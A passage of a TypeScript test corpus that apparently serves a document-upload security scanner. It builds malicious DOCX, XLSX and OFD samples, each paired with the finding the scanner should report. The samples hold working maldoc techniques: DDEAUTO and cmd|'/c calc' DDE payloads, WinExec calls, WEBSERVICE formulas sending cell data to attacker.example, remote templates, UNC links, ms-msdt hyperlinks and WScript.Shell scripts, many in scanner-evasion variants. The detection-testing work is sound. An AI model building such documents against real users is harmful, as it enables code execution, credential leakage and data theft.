    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'docx-rels-utf16-dtd-entity',
    category: 'DTD',
    declared: 'docx',
    bytes: dtdUtf16Relationships,
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-action-in-dtd-entity',
    category: 'DTD',
    declared: 'ofd',
    bytes: ofdDoctypeAction,
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'docx-includepicture-unc',
    category: 'OOXML external',
    declared: 'docx',
    bytes: () => documentWith(complexField(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\x.png" \\d ')),
    expect: 'OOXML_EXTERNAL',
  },
  ...hiddenOfficeItems(),
  ...reachingOfficeItems(),
  ...computedLinkOfficeItems(),
  ...queryOfficeItems(),
  ...alternateContentOfficeItems(),
  ...linkedPictureOfficeItems(),
  ...followedTargetOfficeItems(),
  ...fetchedRelationshipOfficeItems(),
  ...sheetLoadingOfficeItems(),
  ...drawingShapeOfficeItems(),
  ...onlineVideoOfficeItems(),
  ...svgPictureOfficeItems(),
  ...decodedTargetOfficeItems(),
  ...bookPathOfficeItems(),
  ...customXmlPlacedOfficeItems(),
  ...mediaOfficeItems(),
  ...objectPictureOfficeItems(),
  ...foldedTargetOfficeItems(),
  ...prefixedOfficeItems(),
  ...strictOfficeItems(),
  ...svgContentOfficeItems(),
  ...wordChartOfficeItems(),
  ...altChunkOfficeItems(),
  ...macroPlacedOfficeItems(),
  ...pageOfficeItems(),
  ...defaultTypedOfficeItems(),
  ...customPropertyItems(),
];

/** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
function item(id: string, category: string, bytes: () => Promise<Buffer>, expect: FindingCode): CorpusItem {
  return { id, category, declared: id.startsWith('xlsx') ? 'xlsx' : 'docx', bytes, expect };
}

/**
 * Office content found in this round's hunt: documents imported by altChunk, the other field
 * names that fetch (INCLUDE, IMPORT, DATABASE, RD), instructions in a tracked deletion, formulas
 * outside cells (conditional formats, data validations, table columns), story parts and sheets
 * under names the checks did not read, UTF-16 parts (a byte-order mark split between two upload
 * chunks), Strict OOXML types, and [Content_Types].xml and relationship spellings.
 */
function hiddenOfficeItems(): CorpusItem[] {
  const dde = complexField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ');
  const unc = '"\\\\\\\\attacker.example\\\\share\\\\x.docx"';
  const ddeSheet = (inner: string) =>
    office('xlsx', {
      'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/>${inner}</worksheet>`,
    });
  const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
  const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
  /** An attribute in a namespace Office is told to ignore, its value holding `>`. */
  const IGNORABLE =
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x="urn:x" mc:Ignorable="x" x:a=">"';
  const vba = '<Override PartName="/word/media/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
  return [
    item('docx-altchunk-rtf-ole', 'OOXML embedded object', () => altChunk('rtf'), 'OOXML_EMBEDDED_OBJECT'),
    item(
      'docx-altchunk-mht-strict',
      'OOXML embedded object',
      () => altChunk('mht', `${strict}/aFChunk`),
      'OOXML_EMBEDDED_OBJECT',
    ),
    item('docx-include-unc', 'OOXML external', () => documentWith(complexField(` INCLUDE ${unc} `)), 'OOXML_EXTERNAL'),
    item(
      'docx-import-unc',
      'OOXML external',
      () => documentWith(complexField(' IMPORT "\\\\\\\\attacker.example\\\\x.png" ')),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-database-connection',
      'OOXML external',
      () =>
        documentWith(
          complexField(` DATABASE \\d ${unc} \\c "DSN=x;DBQ=\\\\\\\\attacker.example\\\\d.mdb" \\s "SELECT * FROM t" `),
        ),
      'OOXML_EXTERNAL',
    ),
    item('docx-rd-unc', 'OOXML external', () => documentWith(complexField(` RD ${unc} \\f `)), 'OOXML_EXTERNAL'),
    item(
      'docx-ddeauto-tracked-deletion',
      'DDE',
      () => documentWith(dde.replaceAll('instrText', 'delInstrText')),
      'OOXML_DDE',
    ),
    item(
      'docx-ddeauto-mc-choice',
      'DDE',
      () =>
        documentWith(
          `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="w14">${dde}</mc:Choice><mc:Fallback><w:r><w:t>1</w:t></w:r></mc:Fallback></mc:AlternateContent>`,
        ),
      'OOXML_DDE',
    ),
    item(
      'xlsx-dde-conditional-format',
      'DDE',
      () =>
        ddeSheet(
          `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>cmd|' /c calc'!A0</formula></cfRule></conditionalFormatting>`,
        ),
      'OOXML_DDE',
    ),
    item(
      'xlsx-dde-data-validation',
      'DDE',
      () =>
        ddeSheet(
          `<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>cmd|' /c calc'!A0</formula1></dataValidation></dataValidations>`,
        ),
      'OOXML_DDE',
    ),
    item(
      'xlsx-dde-table-column',
      'DDE',
      () =>
        office('xlsx', {}, [
          {
            name: 'xl/tables/table1.xml',
            data: `<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="T" displayName="T" ref="A1:A2"><tableColumns count="1"><tableColumn id="1" name="a"><calculatedColumnFormula>cmd|' /c calc'!A0</calculatedColumnFormula></tableColumn></tableColumns></table>`,
          },
        ]),
      'OOXML_DDE',
    ),
    item(
      'xlsx-dde-form-control-range',
      'DDE',
      () =>
        office('xlsx', {}, [
          {
            name: 'xl/ctrlProps/ctrlProp1.xml',
            data: `<?xml version="1.0" encoding="UTF-8"?><formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Drop" dropStyle="combo" dx="16" fmlaRange="cmd|' /c calc'!A0" sel="1"/>`,
          },
        ]),
      'OOXML_DDE',
    ),
    item(
      'xlsx-dde-form-control-vml',
      'DDE',
      () =>
        office('xlsx', {}, [
          {
            name: 'xl/drawings/vmlDrawing1.vml',
            data: `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" type="#_x0000_t201"><x:ClientData ObjectType="Drop"><x:FmlaRange>cmd|' /c calc'!A0</x:FmlaRange><x:Sel>1</x:Sel></x:ClientData></v:shape></xml>`,
          },
        ]),
      'OOXML_DDE',
    ),
    // Story parts and sheets under names the checks did not read (Word follows _rels/.rels).
    item('docx-ddeauto-main-renamed', 'DDE', () => mainDocumentAt('word/document2.xml', dde), 'OOXML_DDE'),
    item('docx-ddeauto-main-percent-folder', 'DDE', () => mainDocumentAt('%77ord/body.xml', dde), 'OOXML_DDE'),
    item(
      'docx-ddeauto-main-outside-word',
      'OOXML unreadable',
      () => mainDocumentAt('body.xml', dde),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-ddeauto-main-by-default-type',
      'OOXML unreadable',
      () => mainDocumentAt('word/body.dat', dde, 'default'),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-ddeauto-header-not-named-xml',
      'DDE',
      () =>
        office('docx', mainRels('docx', rel('rId9', 'header', 'hdr.bin')), [
          { name: 'word/hdr.bin', data: story('hdr', dde) },
        ]),
      'OOXML_DDE',
    ),
    item(
      'xlsx-dde-sheet-not-named-xml',
      'DDE',
      () =>
        office('xlsx', {}, [
          {
            name: 'xl/worksheets/sheet2.dat',
            data: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>`,
          },
        ]),
      'OOXML_DDE',
    ),
    item(
      'docx-ddeauto-header-odd-name',
      'DDE',
      () => office('docx', {}, [{ name: 'word/header_first.xml', data: story('hdr', dde) }]),
      'OOXML_DDE',
    ),
    item(
      'xlsx-dde-sheet-outside-xl',
      'OOXML unreadable',
      () =>
        office('xlsx', {
          '[Content_Types].xml': contentTypes(
            'xlsx',
            '<Override PartName="/sheets/s.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
          ),
        }),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-ddeauto-main-dot-segment',
      'OOXML unreadable',
      () =>
        office('docx', {
          '[Content_Types].xml': contentTypes(
            'docx',
            `<Override PartName="/word/../body.xml" ContentType="${WORD_MAIN}"/>`,
          ),
          '_rels/.rels': rels(rel('rId1', 'officeDocument', 'body.xml')),
          'body.xml': story('document', dde),
        }),
      'OOXML_UNREADABLE',
    ),
    // A remote template behind a relationship typed as a hyperlink, from settings of any name.
    item(
      'docx-remote-template-typed-hyperlink',
      'OOXML external',
      () => externalTemplateTypedHyperlink('word/settings.xml'),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-remote-template-typed-hyperlink-settings-renamed',
      'OOXML unreadable',
      () => externalTemplateTypedHyperlink('word/prefs.xml'),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-mail-merge-unc-workbook',
      'OOXML external',
      () =>
        office('docx', {
          'word/settings.xml': `<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\share\\x.xlsx"/><w:query w:val="SELECT * FROM \`Sheet1$\`"/></w:mailMerge></w:settings>`,
        }),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-linked-picture-unc-as-internal-target',
      'OOXML external',
      () => office('docx', mainRels('docx', rel('rId9', 'image', '\\\\attacker.example\\share\\logo.png'))),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-linked-picture-file-uri-as-internal-target',
      'OOXML external',
      () => office('docx', mainRels('docx', rel('rId9', 'image', 'file://attacker.example/share/logo.png'))),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-ddeauto-after-no-break-spaces',
      'DDE',
      () => documentWith(complexField(`${'\u00a0'.repeat(40)}DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" `)),
      'OOXML_DDE',
    ),
    item(
      'docx-subdocument-in-package',
      'OOXML external',
      () =>
        office('docx', mainRels('docx', rel('rId9', 'subDocument', 'sub.docm')), [
          { name: 'word/sub.docm', data: randomBytes(512) },
        ]),
      'OOXML_EXTERNAL',
    ),
    // UTF-16 parts: refused however the byte-order mark arrives.
    item(
      'docx-ddeauto-header-utf16',
      'OOXML unreadable',
      () => office('docx', { 'word/header1.xml': utf16(story('hdr', dde)) }),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-ddeauto-footnotes-utf16-no-mark',
      'OOXML unreadable',
      () => office('docx', { 'word/footnotes.xml': utf16(story('footnotes', dde), false) }),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-ddeauto-glossary-utf16',
      'OOXML unreadable',
      () => office('docx', { 'word/glossary/document.xml': utf16(story('glossaryDocument', dde)) }),
      'OOXML_UNREADABLE',
    ),
    item('xlsx-dde-sheet-utf16-mark-across-chunks', 'OOXML unreadable', utf16SheetAcrossChunks, 'OOXML_UNREADABLE'),
    item(
      'docx-ddeauto-header-utf16-no-mark-leading-space',
      'OOXML unreadable',
      () => office('docx', { 'word/header1.xml': utf16(` ${story('hdr', dde).slice(XML_DECLARATION.length)}`, false) }),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-ddeauto-utf7',
      'OOXML unreadable',
      () =>
        office('docx', {
          'word/document.xml': story('document', dde.replace('DDEAUTO', '+AEQ-DEAUTO')).replace('UTF-8', 'UTF-7'),
        }),
      'OOXML_UNREADABLE',
    ),
    // `>` inside an attribute value (well-formed XML) ends no tag; a look-alike attribute hides nothing.
    item(
      'docx-ddeauto-instrtext-after-gt-attribute',
      'DDE',
      () => documentWith(dde.replaceAll('<w:instrText ', `<w:instrText ${IGNORABLE} `)),
      'OOXML_DDE',
    ),
    item(
      'docx-ddeauto-fldsimple-instr-behind-look-alike',
      'DDE',
      () =>
        documentWith(`<w:fldSimple ${IGNORABLE} x:b=' w:instr="PAGE"' w:instr=" DDEAUTO c:\\x.exe &quot;>&quot; "/>`),
      'OOXML_DDE',
    ),
    item(
      'xlsx-dde-formula-after-gt-attribute',
      'DDE',
      () =>
        office('xlsx', {
          'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ${IGNORABLE.replace(' x:a=">"', '')}><sheetData><row r="1"><c r="A1"><f x:a=">">cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>`,
        }),
      'OOXML_DDE',
    ),
    item(
      'docx-remote-template-target-holding-gt',
      'OOXML external',
      () =>
        office('docx', {
          'word/_rels/settings.xml.rels': rels(
            `<Relationship Id="rId1" Target="http://attacker.example/a>b.dotm" Type="${REL}/attachedTemplate" TargetMode="External"/>`,
          ),
        }),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-remote-template-type-shadowed',
      'OOXML external',
      () =>
        office('docx', {
          'word/_rels/settings.xml.rels': rels(
            `<Relationship xmlns:x="urn:x" Id="rId1" Type="${REL}/attachedTemplate" x:Type="${REL}/hyperlink" Target="http://attacker.example/t.dotm" TargetMode="External"/>`,
          ),
        }),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-rels-unclosed-tags',
      'OOXML unreadable',
      () =>
        office('docx', {
          [MAIN_RELS.docx]: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${Array.from({ length: 40_000 }, () => `<Relationship Id="${randomBytes(12).toString('hex')}" Type="`).join('')}`,
        }),
      'OOXML_UNREADABLE',
    ),
    // Strict OOXML types and other spellings of what is refused.
    item(
      'docx-remote-template-strict',
      'OOXML external',
      () =>
        office('docx', {
          'word/_rels/settings.xml.rels': rels(
            rel('rId1', `${strict}/attachedTemplate`, 'http://attacker.example/t.dotm', true),
          ),
        }),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-ole-strict',
      'OOXML embedded object',
      () => office('docx', mainRels('docx', rel('rId9', `${strict}/oleObject`, '../embeddings/oleObject1.bin'))),
      'OOXML_EMBEDDED_OBJECT',
    ),
    item(
      'docx-remote-template-type-spaced-upper-case',
      'OOXML external',
      () =>
        office(
          'docx',
          mainRels(
            'docx',
            `<Relationship Id="rId9" Type=" ${REL}/ATTACHEDTEMPLATE  " Target="\\\\attacker.example\\t.dotm" TargetMode=" external "/>`,
          ),
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-remote-template-rels-upper-case',
      'OOXML external',
      () =>
        buildZip(
          docxEntries().map((e) =>
            e.name === '_rels/.rels'
              ? {
                  name: '_RELS/.RELS',
                  data: rels(
                    rel('rId1', 'officeDocument', 'word/document.xml'),
                    rel('rId2', 'attachedTemplate', 'http://attacker.example/t.dotm', true),
                  ),
                }
              : e,
          ),
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-vba-content-type-second-types',
      'macros',
      () =>
        office(
          'docx',
          { '[Content_Types].xml': contentTypes('docx').replace('</Types>', `</Types><Types>${vba}</Types>`) },
          [{ name: 'word/media/data.bin', data: randomBytes(512) }],
        ),
      'MACROS',
    ),
    item(
      'docx-vba-content-type-utf16-no-mark',
      'macros',
      () =>
        office('docx', { '[Content_Types].xml': utf16(contentTypes('docx', vba), false) }, [
          { name: 'word/media/data.bin', data: randomBytes(512) },
        ]),
      'MACROS',
    ),
    item(
      'docx-vba-content-type-upper-case-default',
      'macros',
      () =>
        office(
          'docx',
          {
            '[Content_Types].xml': contentTypes(
              'docx',
              '<Default Extension="BIN" ContentType="APPLICATION/VND.MS-OFFICE.VBAPROJECT"/>',
            ),
          },
          [{ name: 'word/media/DATA.BIN', data: randomBytes(512) }],
        ),
      'MACROS',
    ),
    // A hyperlink relationship to a file share (refused: Word opens it without a browser, with the
    // reader's credentials), clicked or used where Word fetches at once, rels before or after.
    item(
      'docx-picture-link-through-hyperlink-relationship',
      'OOXML external',
      () => documentLinking(`<w:p>${inlinePicture('r:link="rId9"')}</w:p>`, [uncHyperlink('logo.png')]),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-picture-link-through-hyperlink-relationship-rels-first',
      'OOXML external',
      () =>
        documentLinking(`<w:p>${inlinePicture('r:link="rId9"')}</w:p>`, [uncHyperlink('logo.png')], {
          relsFirst: true,
        }),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-vml-imagedata-through-hyperlink-relationship',
      'OOXML external',
      () =>
        documentLinking(
          '<w:p><w:r><w:pict><v:shape id="_x0000_i1025" style="width:10pt;height:10pt"><v:imagedata r:id="rId9" o:title=""/></v:shape></w:pict></w:r></w:p>',
          [uncHyperlink('logo.png')],
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-vml-imagedata-relid-through-hyperlink-relationship-rels-first',
      'OOXML external',
      () =>
        documentLinking(
          '<w:p><w:r><w:pict><v:shape id="_x0000_i1025" style="width:10pt;height:10pt"><v:imagedata o:relid="rId9" o:title=""/></v:shape></w:pict></w:r></w:p>',
          [uncHyperlink('logo.png')],
          { relsFirst: true },
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-ole-link-through-hyperlink-relationship',
      'OOXML external',
      () =>
        documentLinking(
          '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:10pt;height:10pt"/><o:OLEObject Type="Link" ProgID="Word.Document.12" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rId9" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r></w:p>',
          [uncHyperlink('x.docx')],
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-altchunk-through-hyperlink-relationship',
      'OOXML external',
      () => documentLinking('<w:altChunk r:id="rId9"/><w:p/>', [uncHyperlink('x.mht')]),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-picture-link-through-hyperlink-relationship-other-prefix',
      'OOXML external',
      () =>
        documentLinking(`<w:p>${inlinePicture(`xmlns:q="${REL}" q:link="rId9"`)}</w:p>`, [uncHyperlink('logo.png')], {
          relsFirst: true,
        }),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-hyperlink-to-unc-share',
      'OOXML external',
      () =>
        documentLinking('<w:p><w:hyperlink r:id="rId9"><w:r><w:t>附件</w:t></w:r></w:hyperlink></w:p>', [
          uncHyperlink('x.docx'),
        ]),
      'OOXML_EXTERNAL',
    ),
  ];
}

/**
 * Office content that reaches out by other ways (round 6): worksheet functions that start a
 * program or fetch a URL as the sheet recalculates (RTD, CALL, REGISTER.ID, EVALUATE, WEBSERVICE,
 * IMAGE) wherever a formula is, a sheet in Excel's binary form, VML shapes naming a picture's
 * source directly, and a Word field whose name a nested field computes.
 */
function reachingOfficeItems(): CorpusItem[] {
  const FUNCTION = 'Worksheet function that reaches out';
  const VML = 'VML source outside the package';
  const NESTED = 'Field named by a nested field';
  const q = (text: string) => `&quot;${text}&quot;`;
  const rtd = `RTD(${q('attacker.rtdserver')},,${q('x')})`;
  const webservice = `_xlfn.WEBSERVICE(${q('http://attacker.example/?d=')}&amp;A2)`;
  const unc = '\\\\attacker.example\\x.png';
  return [
    item('xlsx-rtd-formula', FUNCTION, () => sheetWithFormula(rtd), 'OOXML_DDE'),
    item('xlsx-webservice-formula', FUNCTION, () => sheetWithFormula(webservice), 'OOXML_EXTERNAL'),
    item(
      'xlsx-image-formula',
      FUNCTION,
      () => sheetWithFormula(`_xlfn.IMAGE(${q('https://attacker.example/p.png')})`),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-call-defined-name',
      FUNCTION,
      () => definedNameFormula(`CALL(${q('kernel32')},${q('WinExec')},${q('JCJ')},${q('calc')},0)`),
      'OOXML_DDE',
    ),
    item(
      'xlsx-register-id-formula',
      FUNCTION,
      () => sheetWithFormula(`REGISTER.ID(${q('kernel32')},${q('WinExec')},${q('JCJ')})`),
      'OOXML_DDE',
    ),
    item(
      'xlsx-evaluate-built-call',
      FUNCTION,
      () => definedNameFormula(`EVALUATE(${q('R')}&amp;${q('TD(')}&amp;A1&amp;${q(')')})`),
      'OOXML_DDE',
    ),
    item(
      'xlsx-webservice-lowercase-spaced',
      FUNCTION,
      () => sheetWithFormula(`_xlfn.webservice (${q('http://attacker.example/')})`),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-rtd-character-references',
      FUNCTION,
      () => sheetWithFormula(`&#82;TD&#40;${q('x')},,${q('y')})`),
      'OOXML_DDE',
    ),
    item(
      'xlsx-rtd-shared-formula',
      FUNCTION,
      () =>
        office('xlsx', {
          'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:A9" si="0">${rtd}</f><v>0</v></c><c r="A2"><f t="shared" si="0"/><v>0</v></c></row></sheetData></worksheet>`,
        }),
      'OOXML_DDE',
    ),
    item(
      'xlsx-webservice-conditional-format',
      FUNCTION,
      () =>
        sheetWith(
          `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>LEN(${webservice})&gt;0</formula></cfRule></conditionalFormatting>`,
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-rtd-data-validation',
      FUNCTION,
      () =>
        sheetWith(
          `<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>${rtd}=1</formula1></dataValidation></dataValidations>`,
        ),
      'OOXML_DDE',
    ),
    item('xlsx-rtd-form-control-link', FUNCTION, () => formControlFormula(rtd), 'OOXML_DDE'),
    item('xlsx-binary-sheet-override', 'OOXML unreadable', () => binarySheet('override'), 'OOXML_UNREADABLE'),
    item('xlsx-binary-sheet-default', 'OOXML unreadable', () => binarySheet('default'), 'OOXML_UNREADABLE'),
    item(
      'docx-vml-imagedata-unc',
      VML,
      () => documentVml(`<v:shape style="width:9pt;height:9pt"><v:imagedata src="${unc}"/></v:shape>`),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-vml-fill-file-url',
      VML,
      () => documentVml('<v:shape><v:fill type="frame" o:href="file://attacker.example/share/x.png"/></v:shape>'),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-vml-imagedata-mhtml',
      VML,
      () => documentVml('<v:shape><v:imagedata src="mhtml:http://attacker.example/x.mht!x.png"/></v:shape>'),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-vml-comment-fill-unc',
      VML,
      () => workbookVml(`<v:shape type="#_x0000_t202"><v:fill o:relid="rId1" src="${unc}" type="frame"/></v:shape>`),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-vml-drawing-outside-xl',
      VML,
      () => workbookVml(`<v:shape><v:imagedata src="${unc}"/></v:shape>`, 'drawings/d.vml'),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-vml-type-on-xml-name',
      'OOXML unreadable',
      () => workbookVml(`<v:shape><v:imagedata src="${unc}"/></v:shape>`, 'xl/drawings/d.xml', true),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-field-name-from-nested-quote',
      NESTED,
      () => documentWith(nestedField('', ' QUOTE "INCLUDE" ', `PICTURE "${unc}" \\d `)),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-field-name-completed-by-nested',
      NESTED,
      () => documentWith(nestedField(' DD', ' QUOTE "E" ', 'AUTO c:\\x.exe "a" ')),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-field-name-and-path-nested',
      NESTED,
      // Both name and path computed: `{QUOTE 92 92 …}` spells a UNC path from character codes.
      () => {
        const path = [...'\\\\attacker.example\\x.png'].map((c) => c.charCodeAt(0)).join(' ');
        const field = nestedField('', ' QUOTE "INCLUDEPICTURE" ', ' ');
        const end = field.indexOf('<w:r><w:fldChar w:fldCharType="separate"/>');
        return documentWith(`${field.slice(0, end)}${complexField(` QUOTE ${path} `)}${field.slice(end)}`);
      },
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-field-name-from-nested-simple-field',
      NESTED,
      () =>
        documentWith(
          `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:fldSimple w:instr=" QUOTE &quot;INCLUDE&quot; "/><w:r><w:instrText>PICTURE "${unc}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
        ),
      'OOXML_EXTERNAL',
    ),
    item('xlsx-macro-sheet-by-relationship-type', 'macros', macroSheetByRelationship, 'MACROS'),
    item(
      'docx-ole-link-mhtml-through-hyperlink-relationship',
      'OOXML external',
      () =>
        documentLinking(
          '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:10pt;height:10pt"/><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rId9" UpdateMode="Always"/></w:object></w:r></w:p>',
          [rel('rId9', 'hyperlink', 'mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html', true)],
        ),
      'OOXML_EXTERNAL',
    ),
    ...[
      ['ms-msdt', 'ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=x&quot;'],
      ['search-ms', 'search-ms:query=x&amp;crumb=location:\\\\attacker.example\\share'],
    ].map(([scheme, target]) =>
      item(
        `docx-hyperlink-${scheme}`,
        'OOXML external',
        () =>
          documentLinking('<w:p><w:hyperlink r:id="rId9"><w:r><w:t>详情</w:t></w:r></w:hyperlink></w:p>', [
            rel('rId9', 'hyperlink', target ?? '', true),
          ]),
        'OOXML_EXTERNAL',
      ),
    ),
    item(
      'xlsx-formula-reference-unc-path',
      'OOXML external',
      () => sheetWithFormula("'\\\\attacker.example\\share\\[b.xlsx]Sheet1'!A1"),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-defined-name-reference-url',
      'OOXML external',
      () => definedNameFormula("'https://attacker.example/d/[b.xlsx]Sheet1'!$A$1"),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-ole-object-link-dde',
      'DDE',
      () =>
        sheetWith(
          `<oleObjects><oleObject progId="Word.Document.12" link="cmd|' /c calc'!A0" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025"/></oleObjects>`,
        ),
      'OOXML_DDE',
    ),
    item(
      'xlsx-ole-object-link-unc',
      'OOXML external',
      () =>
        sheetWith(
          `<oleObjects><oleObject progId="Package" link="'\\\\attacker.example\\share\\x.docx'!''''" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025"/></oleObjects>`,
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-hyperlink-base-unc',
      'OOXML external',
      () => hyperlinkBase('\\\\attacker.example\\share\\'),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-hyperlink-base-program',
      'OOXML external',
      () => hyperlinkBase('search-ms:crumb=location:'),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-extended-properties-other-name',
      'OOXML unreadable',
      () => hyperlinkBase('\\\\attacker.example\\share\\', 'docProps/extra.xml'),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-hyperlink-field-unc',
      'OOXML external',
      () => documentWith(complexField(' HYPERLINK \\o "附件" "', '\\\\\\\\attacker.example', '\\\\share\\\\x.docx" ')),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-hyperlink-simple-field-program',
      'OOXML external',
      () => documentWith('<w:fldSimple w:instr=" HYPERLINK &quot;ms-msdt:/id PCWDiagnostic /skip force&quot; "/>'),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-function-unc',
      'OOXML external',
      () => sheetWithFormula('HYPERLINK(&quot;\\\\attacker.example\\share\\x.xlsx&quot;,&quot;附件&quot;)'),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-pivot-calculated-field-webservice',
      FUNCTION,
      () =>
        office('xlsx', {}, [
          {
            name: 'xl/pivotCache/pivotCacheDefinition1.xml',
            data: `<?xml version="1.0" encoding="UTF-8"?><pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cacheFields count="1"><cacheField name="x" numFmtId="0" formula="${webservice}" databaseField="0"/></cacheFields></pivotCacheDefinition>`,
          },
        ]),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-files-on-share-defined-name',
      FUNCTION,
      () => definedNameFormula(`FILES(${q('\\\\attacker.example\\share\\*')})`),
      'OOXML_DDE',
    ),
  ];
}

/** Whitespace that does not compress like a bomb (spaces, tabs and line ends at random). */
function whitespace(length: number): string {
  return Array.from(randomBytes(length), (byte) => ' \t\r\n'[byte & 3]).join('');
}

// ── OFD ──────────────────────────────────────────────────────────────────────────────────

const ofdItems: CorpusItem[] = [
  {
    id: 'ofd-attachment-pdf',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () => ofdAttachment('report.pdf', Buffer.from('%PDF-1.7\n')),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attachment-exe',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () => ofdAttachment('setup.exe', windowsExecutable()),
    expect: 'EMBEDDED_EXECUTABLE',
  },
  {
    id: 'ofd-executable-as-image',
    category: 'OFD executable',
    declared: 'ofd',
    bytes: ofdHiddenExecutable,
    expect: 'EMBEDDED_EXECUTABLE',
  },
  {
    id: 'ofd-script-file',
    category: 'OFD executable',
    declared: 'ofd',
    bytes: () => ofdWith('', [{ name: 'Doc_0/Res/run.js', data: 'new ActiveXObject("WScript.Shell").Run("calc")' }]),
    expect: 'EMBEDDED_EXECUTABLE',
  },
  {
    id: 'ofd-help-file',
